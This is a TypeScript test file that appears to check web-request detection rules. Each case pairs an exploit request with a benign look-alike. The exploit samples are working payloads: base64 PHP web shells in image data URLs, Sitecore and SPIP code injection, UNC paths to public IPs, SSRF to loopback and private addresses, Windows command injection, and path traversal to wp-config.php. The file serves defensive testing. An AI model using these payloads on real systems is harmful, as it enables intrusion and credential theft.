@@ -1,0 +1,39 @@
+/**
+ * Bundled rules of rev 2026-12-09b (issue 18, session 24): mechanisms held-out-17's misses showed after its blind
+ * measurement, written for the class of exploit rather than the product. Each fires on its attack, sent the way such
+ * an exploit sends it, and stays quiet on the benign request closest to it (a real PNG data URL, an SVG avatar, a
+ * forge API committing a PHP file as base64, an ASP.NET question naming its own namespace, PHP code that calls
+ * functions on variables, a file server path inside the network, a forward or proxy target on a public host, a
+ * quoted name followed by & in prose, a cookie holding a Windows path without dot-dot steps).
+ */
+import { describe } from 'vitest';
+import type { RequestSpec } from './fixtures.js';
+import { BROWSER, form, FORM_HEADERS, json, JSON_HEADERS, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
+
+const { hits, rules } = useBundledRuleSet();
+
+const get = (url: string): RequestSpec => ({ url, headers: BROWSER });
+const post = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: FORM_HEADERS, body });
+const postJson = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: JSON_HEADERS, body });
+const withCookie = (url: string, cookie: string): RequestSpec => ({ url, headers: [...BROWSER, ['Cookie', cookie]] });
+
+const CASES: RuleCase[] = [
+  [9001379, 'block', 'an image/png value whose base64 is <?php', post('/modules/Rubrics/rubrics_visualise_saveAjax.php', 'img=image%2Fpng%3Buzp6%2CPD9waHAgc3lzdGVtKCRfR0VUWyd4J10pOyA%2FPg%3D%3D&path=3rkfxwq.php5&gibbonPersonID=0000000008'), post('/profile/avatar', 'img=image%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk&name=me.png')],
+  [9001379, 'block', 'a GIF header then <?php in a data URL', json('{"avatar":"data:image/gif;base64,R0lGODlhPD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg=="}'), json('{"avatar":"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=","logo":"data:image/svg+xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+"}')],
+  [9001379, 'block', 'a data:text/plain stream of <?php', get('/index.php?page=data%3Atext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOyA%2FPg%3D%3D'), { method: 'PUT', url: '/api/v3/repos/acme/site/contents/index.php', headers: JSON_HEADERS, body: '{"message":"update index","content":"PD9waHAgZWNobyAnaGVsbG8nOyA/Pg==","branch":"main"}' }],
+  [9000763, 'block', 'a Register directive for System.Runtime.Remoting in ParseControl', post('/-/xaml/Sitecore.Xaml.Tutorials.Styles.Index', "__ISEVENT=1&__SOURCE=&__PARAMETERS=ParseControl(%22%3C%25%40+Register+TagPrefix%3D'x'+Namespace%3D'System.Runtime.Remoting.Services'+Assembly%3D'System.Runtime.Remoting'+%25%3E%3Cx%3ARemotingService+runat%3D'server'+Context-Response-ContentType%3D'61184762'+%2F%3E%22)"), json('{"title":"User control not found","body":"My page has <%@ Register TagPrefix=\\"uc\\" TagName=\\"Header\\" Src=\\"~/Controls/Header.ascx\\" %> and Namespace=\\"Acme.Web.Controls\\" in web.config; System.Web says the control is missing"}')],
+  [9001662, 'block', 'a porte_plume preview holding <?php phpinfo(); ?>', post('/spip.php?action=porte_plume_previsu', 'data=AA_%5B%3Cimg256771%3E-%3EURL%60%3C%3Fphp+phpinfo()%3B+%3F%3E%60%5DBB'), json('{"answer":"Put <?php echo $title; ?> in the template and call phpinfo only from the CLI: php -i","code":"<?php print($a * $b); ?>"}')],
+  [9001662, 'block', 'a PHP echo of a product as a marker', form('comment=%3C%3F%3D+4123*9871+%3F%3E&name=x'), form('comment=Price+is+%3C%3F%3D+%24qty+*+%24price+%3F%3E+and+2024*12+months&name=x')],
+  [9000570, 'block', 'a binary path that is a UNC share on a public IP', postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\101.107.40.241\\\\x\\\\"}'), postJson('/misc/validate_binary_path', '{"utility_path":"\\\\\\\\192.168.10.5\\\\tools\\\\pg16\\\\bin","backup_dir":"\\\\\\\\fs01.corp.example.com\\\\backups\\\\"}')],
+  [9000570, 'block', 'a session cookie that is a UNC path', withCookie('/browser/', 'pga4_session=\\\\106.162.103.196\\x\\9fnWI8!mkCXuHaOnYi0HI4O3M3ldqD3OSC'), withCookie('/browser/', 'pga4_session=2468bb5c-749e-4a9c-8fc9-9bf917d5bcac!0OecgjjMDxdP49EwKUGnRAq0297r; last_share=\\\\10.0.4.20\\scans')],
+  [9000569, 'block', 'a basket forward_url at the loopback', postJson('/api/baskets/2u0nhxj', '{"forward_url":"http://localhost:8080/admin","proxy_response":true,"insecure_tls":false,"expand_path":true,"capacity":250}'), postJson('/api/baskets/orders', '{"forward_url":"https://hooks.example.org/orders","proxy_response":false,"capacity":250}')],
+  [9000569, 'block', 'a picture proxy asked for a private address', get('/pictureproxy.php?url=http%3A%2F%2F172.17.166.209%3A8080%2F'), get('/imageproxy.php?url=https%3A%2F%2Fcdn.example.org%2Fimg%2Flogo.png&note=http%3A%2F%2F127.0.0.1%3A8080%2F')],
+  [9000369, 'block', 'a quote closed, then & systeminfo &', postJson('/misc/validate_binary_path', '{"utility_path":"C:\\\\Users\\\\Public\\\\fEjw4\\" & systeminfo & \\""}'), json('{"review":"\\"Tom & Jerry\\" & friends, a classic; the net user count grew","q":"whoami vs. hostname on Windows"}')],
+  [9000461, 'block', 'a JSON cookie holding ..\\\\ steps', withCookie('/wp-content/plugins/wp-file-upload/wfu_file_downloader.php?file=EFNglUWqTw&handler=dboption', 'wp_wpfileupload_XqnLreZ6b7I3boqD=%7B%22wfu_storage_EFNglUWqTw%22%3A%22..%5C%5C..%5C%5C..%5C%5Cvar%2Fwww%2Fhtml%2Fwp-config.php%22%7D'), withCookie('/app', 'prefs=%7B%22dir%22%3A%22C%3A%5C%5CUsers%5C%5Cann%5C%5C...%5C%5Cdocs%22%7D; v=1.2..3')],
+];
+
+describe("bundled rules for held-out-17's exploit mechanisms (rev 2026-12-09b)", () => {
+  testRuleCases(CASES, hits);
+
+  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
+});
